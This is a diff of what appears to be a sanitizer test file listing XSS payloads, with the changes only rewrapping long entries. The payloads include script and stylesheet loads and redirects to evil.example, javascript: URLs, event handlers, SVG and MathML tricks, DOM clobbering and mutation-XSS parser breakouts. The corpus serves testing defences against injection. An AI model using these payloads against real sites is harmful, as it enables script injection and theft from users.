@@ -10,7 +10,10 @@ export const MARKER = 'PWNED';
 export const CORPUS: Payload[] = [
   // The cases the issue found
   { name: 'meta refresh inside <font>', html: '<font><meta http-equiv="refresh" content="0;url=https://evil.example/font"></font>' },
-  { name: 'meta refresh inside <center>', html: '<center><meta http-equiv="refresh" content="0;url=https://evil.example/center">居中</center>' },
+  {
+    name: 'meta refresh inside <center>',
+    html: '<center><meta http-equiv="refresh" content="0;url=https://evil.example/center">居中</center>',
+  },
   { name: 'handler after <isindex>', html: '<isindex><img src="x" onerror="PWNED()">' },
   { name: 'handler inside <marquee>', html: '<marquee onstart="PWNED()"><img src="x" onerror="PWNED()"></marquee>' },
   { name: 'handler inside <video>', html: '<video><source onerror="PWNED()"><img src="x" onerror="PWNED()"></video>' },
@@ -30,13 +33,19 @@ export const CORPUS: Payload[] = [
   { name: 'script', html: '<script>PWNED()</script>' },
   { name: 'script with src', html: '<script src="https://evil.example/x.js"></script>' },
   { name: 'base href', html: '<base href="https://evil.example/">' },
-  { name: 'form with formaction', html: '<form action="https://evil.example/"><input name="q"><button formaction="javascript:PWNED()">提交</button></form>' },
+  {
+    name: 'form with formaction',
+    html: '<form action="https://evil.example/"><input name="q"><button formaction="javascript:PWNED()">提交</button></form>',
+  },
   { name: 'button formaction outside form', html: '<button formaction="javascript:PWNED()" form="site-search">x</button>' },
   { name: 'object', html: '<object data="javascript:PWNED()"></object>' },
   { name: 'embed', html: '<embed src="javascript:PWNED()">' },
   { name: 'iframe from elsewhere', html: '<iframe src="https://evil.example/frame"></iframe>' },
   { name: 'iframe srcdoc', html: '<iframe srcdoc="<script>PWNED()</script>"></iframe>' },
-  { name: 'allowed player with handler', html: '<iframe src="https://player.bilibili.com/player.html?bvid=BV1" onload="PWNED()"></iframe>' },
+  {
+    name: 'allowed player with handler',
+    html: '<iframe src="https://player.bilibili.com/player.html?bvid=BV1" onload="PWNED()"></iframe>',
+  },
   { name: 'link import', html: '<link rel="stylesheet" href="https://evil.example/x.css">' },
   { name: 'style element', html: '<style>body{background:url("javascript:PWNED()")}</style>' },
   { name: 'style expression', html: '<div style="width:expression(PWNED())">ie</div>' },
@@ -46,7 +55,10 @@ export const CORPUS: Payload[] = [
   { name: 'picture source srcset', html: '<picture><source srcset="javascript:PWNED()"><img src="a.jpg" alt="y"></picture>' },
   { name: 'svg image xlink', html: '<svg><image xlink:href="javascript:PWNED()"></image></svg>' },
   { name: 'svg onload', html: '<svg onload="PWNED()"><circle r="5"></circle></svg>' },
-  { name: 'svg animate', html: '<svg><a><animate attributeName="href" values="javascript:PWNED()"></animate><text y="20">x</text></a></svg>' },
+  {
+    name: 'svg animate',
+    html: '<svg><a><animate attributeName="href" values="javascript:PWNED()"></animate><text y="20">x</text></a></svg>',
+  },
   { name: 'math href', html: '<math><mi xlink:href="javascript:PWNED()" href="javascript:PWNED()">x</mi></math>' },
   { name: 'event handler with odd spacing', html: '<img src=x onerror  =  PWNED()>' },
   { name: 'slash as attribute separator', html: '<img/src="x"/onerror="PWNED()">' },
@@ -59,7 +71,10 @@ export const CORPUS: Payload[] = [
   { name: 'id clobbering the search box', html: '<div id="site-search-q">clobber</div>' },
   // Parser confusion (mXSS)
   { name: 'noscript attribute breakout', html: '<noscript><p title="</noscript><img src=x onerror=PWNED()>"></noscript>' },
-  { name: 'math style confusion', html: '<math><mtext><table><mglyph><style><img src=x onerror=PWNED()></style></mglyph></table></mtext></math>' },
+  {
+    name: 'math style confusion',
+    html: '<math><mtext><table><mglyph><style><img src=x onerror=PWNED()></style></mglyph></table></mtext></math>',
+  },
   { name: 'form math nesting', html: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=PWNED()>' },
   { name: 'svg p breakout', html: '<svg></p><style><a id="</style><img src=1 onerror=PWNED()>">' },
   { name: 'template content', html: '<template><img src=x onerror=PWNED()></template>' },
